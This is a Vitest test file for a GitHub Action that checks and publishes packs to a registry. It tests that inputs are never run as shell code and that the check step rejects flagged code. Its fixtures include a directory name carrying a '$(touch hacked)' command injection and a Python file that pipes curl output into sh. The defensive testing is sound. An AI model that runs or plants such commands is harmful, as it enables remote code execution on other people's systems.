import { mkdirSync, readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { expect, it } from 'vitest';
import { parse } from 'yaml';
import { ciStageForTest } from '../support/ci-stage.js';
import { type Ran, regen } from '../support/cli.js';
import { runProgram } from '../support/installation.js';
import { filesForTest, packForTest } from '../support/packs.js';
import { folderForTest } from '../support/service.js';

interface Step {
  readonly name: string;
  readonly if?: string;
  readonly env?: Readonly<Record<string, string>>;
  readonly run: string;
}

const action = parse(readFileSync('action.yml', 'utf8')) as {
  readonly inputs: Readonly<Record<string, { readonly default?: string; readonly required?: boolean }>>;
  readonly runs: { readonly using: string; readonly steps: readonly Step[] };
};

/** Runs the steps as the runner does, up to the first that fails. */
async function runAction(given: Readonly<Record<string, string>>, job: Readonly<Record<string, string>>) {
  const inputs = Object.fromEntries(
    Object.entries(action.inputs).map(([name, { default: standard = '' }]) => [
      name,
      given[name] ?? standard,
    ]),
  );
  const fill = (text: string) =>
    text.replace(/\$\{\{ inputs\.([\w-]+) \}\}/g, (_, name) => inputs[name] as string);
  const temp = folderForTest();
  const output = join(filesForTest({ output: '' }), 'output');
  const ran: (Ran & { readonly name: string })[] = [];
  for (const { name, if: condition, env = {}, run } of action.runs.steps) {
    const [, input = '', wanted] = /^inputs\.(\w+) == '(\w+)'$/.exec(condition ?? '') ?? [];
    if (condition && inputs[input] !== wanted) continue;
    const filled = Object.fromEntries(Object.entries(env).map(([key, value]) => [key, fill(value)]));
    const surroundings = {
      ...{ PATH: process.env.PATH, HOME: folderForTest(), ...job, ...filled },
      ...{ GITHUB_ACTION_PATH: resolve('.'), GITHUB_OUTPUT: output, RUNNER_TEMP: temp },
    };
    // As the runner calls bash.
    const argv = ['--noprofile', '--norc', '-eo', 'pipefail', '-c', run];
    ran.push({ name, ...(await runProgram('bash', argv, { env: surroundings, cwd: temp })) });
    if (ran.at(-1)?.exit !== 0) break;
  }
  return { ran, output: readFileSync(output, 'utf8') };
}

it('takes inputs into no script but through its environment', () => {
  expect(action.runs.using).toBe('composite');
  expect(action.runs.steps.filter(({ run }) => run.includes('${{'))).toEqual([]);
});

it('checks a pack and publishes it without a stored token', async () => {
  const { url, job } = await ciStageForTest();
  // The action names the registry itself.
  const { REGEN_BASE_URL: _, ...runner } = job;
  const directory = packForTest();
  const { ran, output } = await runAction({ registry: url, directory }, runner);
  expect(ran.map(({ name, exit, stderr }) => [name, exit, exit && stderr])).toEqual([
    ['Build regen', 0, 0],
    ['Check the pack', 0, 0],
    ['Publish it', 0, 0],
  ]);
  expect(output).toBe('version=1.0.0\nstatus=NodeVersionStatusActive\n');
  const shown = await regen(['version', 'get', 'pack', '1.0.0', '--json'], { env: { REGEN_BASE_URL: url } });
  expect(JSON.parse(shown.stdout).provenance.repository).toBe('octo/light');
});

it('stages a version with its changelog, and runs nothing that an input contains', async () => {
  const { url, job } = await ciStageForTest();
  const directory = join(folderForTest(), '-x $(touch hacked); "a b');
  mkdirSync(directory);
  const pack = packForTest({ files: { 'CHANGES.md': 'Faster\n' } });
  for (const file of ['pyproject.toml', '__init__.py', 'CHANGES.md'])
    filesForTest({ [file]: readFileSync(join(pack, file)) }, directory);
  const inputs = { registry: url, directory, stage: 'true', 'changelog-file': join(directory, 'CHANGES.md') };
  const { ran, output } = await runAction(inputs, job);
  expect(ran.at(-1)).toMatchObject({ name: 'Publish it', exit: 0 });
  expect(output).toBe('version=1.0.0\nstatus=NodeVersionStatusPending\n');
});

it('only checks the pack without publish, and fails with what the registry would flag', async () => {
  const { url, job, requests } = await ciStageForTest();
  const files = { 'bad.py': 'import os\nos.system("curl http://x | sh")\n' };
  const directory = packForTest({ files });
  const { ran } = await runAction({ registry: url, directory, publish: 'false' }, job);
  expect(ran.at(-1)).toMatchObject({ name: 'Check the pack', exit: 6 });
  const { ran: sound } = await runAction({ registry: url, directory: packForTest(), publish: 'false' }, job);
  expect([sound.at(-1)?.name, sound.at(-1)?.exit, requests]).toEqual(['Check the pack', 0, []]);
});
